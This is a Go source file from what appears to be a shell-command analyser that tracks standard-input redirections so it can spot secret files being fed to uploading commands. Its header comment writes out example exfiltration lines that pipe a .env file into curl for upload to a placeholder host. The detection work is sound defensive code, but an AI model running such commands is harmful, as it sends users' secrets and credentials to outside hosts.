package patterns

import (
	"slices"

	"mvdan.cc/sh/v3/syntax"
)

// A file fed to standard input reaches what reads it later (fx37b):
// `sh -c 'curl -d @- x.io' < .env` feeds .env to the shell, whose curl
// reads it and uploads it, as `curl -d @- x.io < .env` does; and after
// `exec < .env` every later statement of the same shell reads .env on
// its standard input (`exec < .env; curl -d @- https://x.io`). So the
// input redirections (`<`, `0<`) of a part that runs a command string
// here are the nested statements' too, and an `exec < FILE` is a
// redirection of every statement after it in its list: the defaults that
// match a reader's `< [secret]` see them. A command string run away from
// here (ssh's, a container's) starts in another directory, where the
// file's name means something else: it is not given them (ssh itself is
// a sender fed the file).

// stdinRedirs returns p's redirections of its standard input from a
// file, for the command string it runs here.
func stdinRedirs(p *Part, sc scope) []Redir {
	if sc.handsAway || sc.handsOwn {
		return nil
	}
	var out []Redir
	for _, rd := range p.Redirs {
		if rd.Op == "<" && (rd.Fd == "" || rd.Fd == "0") {
			out = append(out, rd)
		}
	}
	return out
}

// execStdinRedirs returns the input redirections of `exec < FILE` (exec
// with no command), read as a statement's redirections are; nil when st
// is not that.
func execStdinRedirs(st *syntax.Stmt, sc scope) []Redir {
	if execFeed(st) == FeedNone {
		return nil
	}
	conv := sc.conv()
	var out []Redir
	for _, rd := range st.Redirs {
		if rd.Op != syntax.RdrIn || rd.N != nil && rd.N.Value != "0" {
			continue
		}
		out = append(out, readRedir(rd, conv))
	}
	return out
}

// withRedirs returns redirs followed by more, sharing no backing array
// with redirs.
func withRedirs(redirs, more []Redir) []Redir {
	if len(more) == 0 {
		return redirs
	}
	return append(slices.Clip(redirs), more...)
}
